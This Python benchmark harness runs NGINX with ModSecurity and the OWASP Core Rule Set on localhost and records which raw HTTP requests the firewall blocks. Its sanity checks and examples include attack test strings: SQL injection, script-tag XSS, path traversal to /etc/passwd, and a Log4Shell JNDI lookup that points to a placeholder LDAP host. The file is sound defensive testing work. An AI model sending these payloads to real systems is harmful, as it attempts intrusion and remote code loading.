"""The OWASP ModSecurity Core Rule Set as a baseline for the payload-scanner benchmark: real
NGINX with libmodsecurity3 and CRS 3.3 from Debian's packages, at one paranoia level, in a
private directory, fed raw HTTP requests that come back as blocked or passed.

The ModSecurity settings are the packaged recommended file (``modsecurity.conf`` from
libnginx-mod-http-modsecurity, the same text as upstream's ``modsecurity.conf-recommended``)
with only these lines changed: ``SecRuleEngine On`` (it ships ``DetectionOnly``), the audit log
and the status engine off, temporary and data directories in the work directory, and the
Unicode map by absolute path. So request bodies are inspected (``SecRequestBodyAccess On``), JSON
and XML bodies go to their parsers (rules 200001 and 200000), the body limits are 13107200
bytes with files and 131072 without, over-limit bodies are refused (``SecRequestBodyLimitAction
Reject``; libmodsecurity3 reports a non-file body over 128 KiB as a parse error), bodies that
fail to parse are refused with 400 (rule 200002), and the debug log is off.

The rules are loaded the way Debian's ``owasp-crs.load`` loads them, with the package's
``crs-setup.conf`` copied into the work directory and three actions added at its end:
``tx.paranoia_level`` and ``tx.executing_paranoia_level`` (ids 900000 and 900001), and
``tx.allowed_methods`` (id 900200) widened from ``GET HEAD POST OPTIONS`` to add ``PUT PATCH
DELETE``, because an API uses them and rule 911100 would block each at paranoia level 1. Every
other setting is the CRS default: anomaly scoring with an inbound threshold of 5, and the
default allowed content types (``application/json`` among them; ``text/plain`` and vendor
types such as ``application/merge-patch+json`` are not, and rule 920420 blocks them).

NGINX runs one worker. The protected server proxies to a second server in the same NGINX that
answers 200 "ok", so NGINX reads every request body and ModSecurity's phase 2 sees it.

    with CRS(paranoia=1) as crs:
        crs.sanity_check()
        blocked = crs.verdicts([Req("GET", "/?id=1%27%20OR%20%271%27%3D%271", {})])

Usage: .venv/bin/python benchmarks/crs.py
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType
from typing import BinaryIO

__all__ = ["CRS", "Req", "available"]

NGINX = Path("/usr/sbin/nginx")
MODULE = Path("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
CRS_LOAD = Path("/usr/share/modsecurity-crs/owasp-crs.load")
CRS_RULES = Path("/usr/share/modsecurity-crs/rules")
CRS_SETUPS = (
    Path("/etc/modsecurity/crs/crs-setup.conf"),
    Path("/usr/share/modsecurity-crs/crs-setup.conf.example"),
)
# The pristine copy under docs first: the one in /etc may have been edited by an admin.
MODSEC_CONFS = (
    Path("/usr/share/nginx/docs/modsecurity/modsecurity.conf"),
    Path("/etc/nginx/modsecurity.conf"),
    Path("/etc/modsecurity/modsecurity.conf-recommended"),
)
UNICODE_MAPS = (
    Path("/usr/share/nginx/docs/modsecurity/unicode.mapping"),
    Path("/etc/nginx/unicode.mapping"),
)
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}
_BODY_METHODS = {"POST", "PUT", "PATCH"}
_MARKER = "x-crs-reached"  # set in NGINX's server rewrite phase, so absent on NGINX's own errors
_HTTP09 = "x-http09-reply"
_UPSTREAM_BODY = b"ok"


@dataclass
class Req:
    """One HTTP request, sent as given. Text is sent as UTF-8 (``surrogateescape`` carries raw
    bytes); ``Host: localhost`` is added when missing (a numeric IP would cost 3 anomaly points,
    rule 920350) and Content-Length is always computed from the body.
    Missing User-Agent and Accept headers each cost 2 anomaly points from paranoia level 2, so
    give them as a real client would."""

    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


def available() -> str | None:
    """None when NGINX, the ModSecurity module and the CRS files are installed, else why not."""
    needs = {
        "nginx": [NGINX],
        "the NGINX ModSecurity module": [MODULE],
        "CRS's owasp-crs.load": [CRS_LOAD],
        "CRS's crs-setup.conf": list(CRS_SETUPS),
        "ModSecurity's recommended modsecurity.conf": list(MODSEC_CONFS),
        "ModSecurity's unicode.mapping": list(UNICODE_MAPS),
    }
    for what, paths in needs.items():
        if not any(p.is_file() for p in paths):
            return f"{what} not found (apt-get install libnginx-mod-http-modsecurity modsecurity-crs nginx-light)"
    if not any(CRS_RULES.glob("*.conf")):
        return f"no CRS rules in {CRS_RULES}"
    return None


class CRS:
    """Real NGINX + libmodsecurity3 + OWASP CRS at one paranoia level, in a private temp dir.

    Args:
        paranoia: CRS paranoia level, 1 to 4.
        workdir: where configs, logs and temp files go; a fresh temp dir (removed on stop)
            when None.

    After ``verdicts``, ``rejected_400`` counts requests NGINX itself refused with 400 before
    ModSecurity saw them, and ``statuses`` counts (status, who answered) pairs.
    """

    def __init__(self, paranoia: int = 1, workdir: Path | None = None) -> None:
        if paranoia not in (1, 2, 3, 4):
            raise ValueError(f"paranoia must be 1 to 4, not {paranoia}")
        self.paranoia = paranoia
        self._own_dir = workdir is None
        self.workdir = Path(tempfile.mkdtemp(prefix="crs-")) if workdir is None else workdir
        self.port = 0
        self.rejected_400 = 0
        self.statuses: Counter[tuple[int, str]] = Counter()
        self._proc: subprocess.Popen[bytes] | None = None
        self._conn: _Conn | None = None

    # Lifecycle ---------------------------------------------------------------------------
    def start(self) -> None:
        """Write the configs, start NGINX and wait until it answers.

        Raises:
            RuntimeError: with the tail of NGINX's error log when it does not come up.
        """
        reason = available()
        if reason:
            raise RuntimeError(reason)
        self.port, upstream = _free_ports(2)
        conf = self._write_configs(upstream)
        log = (self.workdir / "nginx.stderr").open("wb")
        self._proc = subprocess.Popen(
            [str(NGINX), "-p", str(self.workdir), "-c", str(conf), "-e", str(self._error_log)],
            stdout=log,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        log.close()
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self._proc.poll() is not None:
                break
            try:
                status, _ = _exchange_once(self.port, _wire(Req("GET", "/", dict(BROWSER))), False)
                if status == 200:
                    return
            except OSError:
                pass
            time.sleep(0.1)
        tail = self._log_tail()
        self.stop()
        raise RuntimeError(f"NGINX with CRS did not start:\n{tail}")

    def stop(self) -> None:
        """Stop NGINX (SIGTERM to its process group, SIGKILL after 5 s) and remove an own
        temp dir."""
        if self._conn is not None:
            self._conn.close()
            self._conn = None
        if self._proc is not None:
            for sig in (signal.SIGTERM, signal.SIGKILL):
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(self._proc.pid, sig)
                with contextlib.suppress(subprocess.TimeoutExpired):
                    self._proc.wait(5)
                    break
            self._proc = None
        if self._own_dir:
            shutil.rmtree(self.workdir, ignore_errors=True)

    def __enter__(self) -> CRS:
        self.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()

    # Verdicts ----------------------------------------------------------------------------
    def verdicts(self, reqs: list[Req]) -> list[bool]:
        """Send each request on a keep-alive connection and say which were blocked.

        Anything but 200 counts as blocked: 403 is CRS's anomaly verdict, 400 comes from
        ModSecurity's body checks or from NGINX refusing a malformed request (those are also
        counted in ``rejected_400``), 413 and 414 from the size limits. A request whose method,
        target or headers hold CR or LF goes on a connection of its own, so it cannot split
        into two requests on the shared one.

        Returns:
            One bool per request, True when it was blocked.
        """
        if self._proc is None:
            raise RuntimeError("CRS.start() first")
        out = []
        for req in reqs:
            status, crs_saw = self._send(req)
            # 413 is NGINX's client_max_body_size (10 MB), which ModSecurity's limits never reach
            source = "upstream" if status == 200 else "nginx" if status == 413 else crs_saw
            self.statuses[(status, source)] += 1
            if status == 400 and source == "nginx":
                self.rejected_400 += 1
            out.append(status != 200)
        return out

    def sanity_check(self) -> None:
        """Check that CRS blocks a known SQLi, XSS and path traversal in the query string and
        in request bodies, and lets a plain search through.

        Raises:
            RuntimeError: naming every check that failed.
        """
        b = dict(BROWSER)
        js = {**b, "Content-Type": "application/json"}
        form = {**b, "Content-Type": "application/x-www-form-urlencoded"}
        cases = [
            ("SQLi in query", True, Req("GET", "/?id=1%27%20OR%20%271%27%3D%271", b)),
            ("XSS in query", True, Req("GET", "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", b)),
            ("traversal in query", True, Req("GET", "/?file=..%2F..%2F..%2Fetc%2Fpasswd", b)),
            ("SQLi in JSON body", True, Req("POST", "/", js, _SQLI_JSON)),
            ("XSS in form body", True, Req("POST", "/", form, b"q=<script>alert(1)</script>")),
            ("plain search", False, Req("GET", "/?q=red+shoes", b)),
        ]
        got = self.verdicts([req for _, _, req in cases])
        failed = [
            f"{name} was {'blocked' if g else 'passed'}"
            for (name, want, _), g in zip(cases, got, strict=True)
            if g != want
        ]
        if failed:
            raise RuntimeError(f"CRS PL{self.paranoia} sanity check failed: " + "; ".join(failed))

    def _send(self, req: Req) -> tuple[int, str]:
        """Status and who answered a refusal; one retry on a fresh connection
        when a reused one fails (NGINX may have closed it between requests)."""
        data = _wire(req)
        head = req.method.upper() == "HEAD"
        if _splits(req):
            return _exchange_once(self.port, data, head)
        for attempt in (0, 1):
            reused = self._conn is not None
            if self._conn is None:
                self._conn = _Conn(self.port)
            try:
                status, headers, keep = self._conn.exchange(data, head)
            except OSError as e:
                self._conn.close()
                self._conn = None
                if attempt == 0 and reused:
                    continue
                raise RuntimeError(f"no response to {req.method} {req.target!r}: {e}") from e
            if not keep:
                self._conn.close()
                self._conn = None
            return status, _source(headers)
        raise AssertionError("unreachable")

    # Configuration -----------------------------------------------------------------------
    @property
    def _error_log(self) -> Path:
        return self.workdir / "error.log"

    def _write_configs(self, upstream: int) -> Path:
        """Write modsecurity.conf, crs-setup.conf, the rules entry file and nginx.conf."""
        wd = self.workdir
        for d in ("tmp", "data", "modsec"):
            (wd / d).mkdir(parents=True, exist_ok=True)
        modsec = wd / "modsec"
        (modsec / "modsecurity.conf").write_text(_modsecurity_conf(wd))
        setup = next(p for p in CRS_SETUPS if p.is_file()).read_text()
        (modsec / "crs-setup.conf").write_text(setup + _crs_settings(self.paranoia))
        includes = [f"Include {modsec / 'modsecurity.conf'}"]
        # libmodsecurity3 3.0 has no IncludeOptional: include those files when present.
        for line in CRS_LOAD.read_text().splitlines():
            kind, _, path = line.strip().partition(" ")
            if kind not in ("Include", "IncludeOptional"):
                continue
            if path.endswith("crs-setup.conf"):
                path = str(modsec / "crs-setup.conf")
            if kind == "Include" or Path(path).is_file():
                includes.append(f"Include {path}")
        (modsec / "main.conf").write_text("\n".join(includes) + "\n")
        conf = wd / "nginx.conf"
        conf.write_text(_nginx_conf(wd, self.port, upstream))
        return conf

    def _log_tail(self, lines: int = 30) -> str:
        for f in (self._error_log, self.workdir / "nginx.stderr"):
            if f.is_file() and f.stat().st_size:
                return "\n".join(f.read_text(errors="replace").splitlines()[-lines:])
        return "(NGINX wrote no log)"


_SQLI_JSON = b"{\"q\":\"1' OR '1'='1\"}"


def _modsecurity_conf(workdir: Path) -> str:
    """The packaged recommended ModSecurity settings with the module docstring's changes."""
    text = next(p for p in MODSEC_CONFS if p.is_file()).read_text()
    umap = next(p for p in UNICODE_MAPS if p.is_file())
    changes = {
        r"SecRuleEngine .*": "SecRuleEngine On",
        r"SecAuditEngine .*": "SecAuditEngine Off",
        r"SecAuditLog .*": f"SecAuditLog {workdir / 'audit.log'}",
        r"SecStatusEngine .*": "SecStatusEngine Off",
        r"SecTmpDir .*": f"SecTmpDir {workdir / 'tmp'}/",
        r"SecDataDir .*": f"SecDataDir {workdir / 'data'}/",
        r"SecUnicodeMapFile unicode\.mapping ": f"SecUnicodeMapFile {umap} ",
    }
    for pattern, repl in changes.items():
        text, n = re.subn(rf"(?m)^{pattern}", repl, text)
        if n != 1:
            raise RuntimeError(f"expected one line like {pattern!r} in the ModSecurity config")
    for rule in ("id:'200000'", "id:'200001'", "SecRequestBodyAccess On"):
        if rule not in text:
            raise RuntimeError(f"the recommended ModSecurity config lacks {rule}")
    return text


def _crs_settings(paranoia: int) -> str:
    """The actions appended to crs-setup.conf (see the module docstring)."""
    actions = [
        (900000, f"tx.paranoia_level={paranoia}"),
        (900001, f"tx.executing_paranoia_level={paranoia}"),
        (900200, "'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'"),
    ]
    lines = [f'SecAction "id:{i},phase:1,nolog,pass,t:none,setvar:{v}"' for i, v in actions]
    return "\n# Added by gatewise benchmarks/crs.py\n" + "\n".join(lines) + "\n"


def _nginx_conf(wd: Path, port: int, upstream: int) -> str:
    user = "user root;\n" if os.geteuid() == 0 else ""
    temps = "\n".join(
        f"    {kind}_temp_path {wd / 'tmp' / kind};"
        for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    return f"""load_module {MODULE};
{user}worker_processes 1;
daemon off;
master_process on;
pid {wd / "nginx.pid"};
error_log {wd / "error.log"} warn;
events {{ worker_connections 256; }}
http {{
    access_log off;
    default_type text/plain;
    client_max_body_size 10m;
    keepalive_requests 1000000;
{temps}
    upstream app {{ server 127.0.0.1:{upstream}; keepalive 4; }}
    server {{
        listen 127.0.0.1:{port};
        modsecurity on;
        modsecurity_rules_file {wd / "modsec" / "main.conf"};
        set $crs_reached 1;
        add_header X-CRS-Reached $crs_reached always;
        location / {{
            proxy_pass http://app;
            proxy_http_version 1.1;
            proxy_set_header Connection "";
        }}
    }}
    server {{
        listen 127.0.0.1:{upstream};
        location / {{ return 200 "{_UPSTREAM_BODY.decode()}"; }}
    }}
}}
"""


# Raw HTTP/1.1 client -------------------------------------------------------------------------
def _free_ports(n: int) -> list[int]:
    """n distinct TCP ports on 127.0.0.1 that nothing listens on right now."""
    socks = [socket.socket() for _ in range(n)]
    try:
        for s in socks:
            s.bind(("127.0.0.1", 0))
        return [int(s.getsockname()[1]) for s in socks]
    finally:
        for s in socks:
            s.close()


def _wire(req: Req) -> bytes:
    """The request's bytes: the target verbatim, Host added when missing, Content-Length from
    the body (a caller's Content-Length or Transfer-Encoding is dropped)."""
    names = {k.lower() for k in req.headers}
    lines = [f"{req.method} {req.target} HTTP/1.1"]
    if "host" not in names:
        lines.append("Host: localhost")
    lines += [
        f"{k}: {v}"
        for k, v in req.headers.items()
        if k.lower() not in ("content-length", "transfer-encoding")
    ]
    if req.body or req.method.upper() in _BODY_METHODS:
        lines.append(f"Content-Length: {len(req.body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "surrogateescape") + req.body


def _splits(req: Req) -> bool:
    parts = [req.method, req.target, *req.headers, *req.headers.values()]
    return any("\r" in p or "\n" in p for p in parts)


class _Conn:
    """One keep-alive connection to NGINX."""

    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.rfile = self.sock.makefile("rb")

    def exchange(self, data: bytes, head: bool) -> tuple[int, dict[str, str], bool]:
        """Send one request; return status, lower-cased headers and whether to keep the
        connection."""
        self.sock.sendall(data)
        return _read_response(self.rfile, head)

    def close(self) -> None:
        self.rfile.close()
        self.sock.close()


def _source(headers: dict[str, str]) -> str:
    """Who refused a request: ModSecurity, NGINX before ModSecurity, or unknown for an
    HTTP/0.9 reply (which has no headers)."""
    return "http/0.9" if _HTTP09 in headers else "modsecurity" if _MARKER in headers else "nginx"


def _exchange_once(port: int, data: bytes, head: bool) -> tuple[int, str]:
    conn = _Conn(port)
    try:
        status, headers, _ = conn.exchange(data, head)
        return status, _source(headers)
    finally:
        conn.close()


def _read_response(rfile: BinaryIO, head: bool) -> tuple[int, dict[str, str], bool]:
    while True:
        line = rfile.readline(65537)
        if not line:
            raise ConnectionError("connection closed before a response")
        parts = line.split(None, 2)
        if not line.startswith(b"HTTP/"):
            return _http09(line + rfile.read())
        if len(parts) < 2 or not parts[1].isdigit():
            raise ConnectionError(f"bad status line {line[:80]!r}")
        status = int(parts[1])
        headers: dict[str, str] = {}
        while (h := rfile.readline(65537)) not in (b"\r\n", b"\n", b""):
            k, _, v = h.decode("latin-1").partition(":")
            headers[k.strip().lower()] = v.strip()
        if status >= 200:
            break
    keep = headers.get("connection", "").lower() != "close"
    if head or status in (204, 304):
        return status, headers, keep
    if headers.get("transfer-encoding", "").lower() == "chunked":
        while (size := int(rfile.readline(1024).split(b";")[0], 16)) > 0:
            _read_exactly(rfile, size + 2)
        while rfile.readline(65537) not in (b"\r\n", b"\n", b""):
            pass
    elif "content-length" in headers:
        _read_exactly(rfile, int(headers["content-length"]))
    else:
        rfile.read()
        keep = False
    return status, headers, keep


def _http09(body: bytes) -> tuple[int, dict[str, str], bool]:
    """NGINX answers a request line without a version (a target holding CR LF ends it early)
    the HTTP/0.9 way, with a body and no status line: take the status from its error page, or
    200 when it is the upstream's answer."""
    if body == _UPSTREAM_BODY:
        return 200, {}, False
    m = re.search(rb"<title>(\d{3}) ", body)
    return (int(m.group(1)) if m else 0), {_HTTP09: "1"}, False


def _read_exactly(rfile: BinaryIO, n: int) -> None:
    if len(rfile.read(n)) != n:
        raise ConnectionError("connection closed inside a response body")


# CLI -----------------------------------------------------------------------------------------
def _examples() -> list[tuple[str, Req]]:
    """Attacks in each place CRS looks, and benign API calls, all with browser headers."""
    b = dict(BROWSER)
    js = {**b, "Content-Type": "application/json"}
    return [
        ("JSON POST SQLi", Req("POST", "/v1/search", js, _SQLI_JSON)),
        ("Log4Shell in User-Agent", Req("GET", "/", {**b, "User-Agent": "${jndi:ldap://x/a}"})),
        ("SQLi in Cookie", Req("GET", "/", {**b, "Cookie": "id=1' or '1'='1"})),
        ("traversal in path", Req("GET", "/files/..%2f..%2fetc/passwd", b)),
        ("XSS in query", Req("GET", "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", b)),
        ("benign timestamp query", Req("GET", "/v1/items?since=2026-11-02T10:00:00Z", b)),
        (
            "benign Accept-Language",
            Req("GET", "/v1/items", {**b, "Accept-Language": "en-US,en;q=0.9"}),
        ),
        ("benign JSON POST", Req("POST", "/v1/orders", js, b'{"sku":"A-1","qty":2,"note":"gift"}')),
        ("benign JSON PATCH", Req("PATCH", "/v1/orders/42", js, b'{"qty":3}')),
        ("benign DELETE", Req("DELETE", "/v1/orders/42", b)),
        ("benign search", Req("GET", "/search?q=red+shoes&page=2", b)),
    ]


def main() -> int:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    reason = available()
    if reason:
        print(f"CRS unavailable: {reason}")
        return 1
    examples = _examples()
    for pl in (1, 2):
        t0 = time.perf_counter()
        with CRS(paranoia=pl) as crs:
            started = time.perf_counter() - t0
            crs.sanity_check()
            print(f"\nCRS PL{pl}: started in {started:.1f} s, sanity check passed")
            t1 = time.perf_counter()
            for name, req in examples:
                before = Counter(crs.statuses)
                blocked = crs.verdicts([req])[0]
                (status, source), *_ = crs.statuses - before
                verdict = f"BLOCK {status} {source}" if blocked else "pass"
                print(f"  {verdict:<22} {name}")
            took = time.perf_counter() - t1
            print(f"  {len(examples)} verdicts in {took * 1000:.0f} ms")
            load = [examples[i % len(examples)][1] for i in range(2000)]
            t2 = time.perf_counter()
            crs.verdicts(load)
            rate = len(load) / (time.perf_counter() - t2)
            print(
                f"  throughput: {rate:.0f} requests/s (20,000 requests take {20000 / rate:.0f} s)"
            )
            print(f"  statuses: {dict(crs.statuses)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
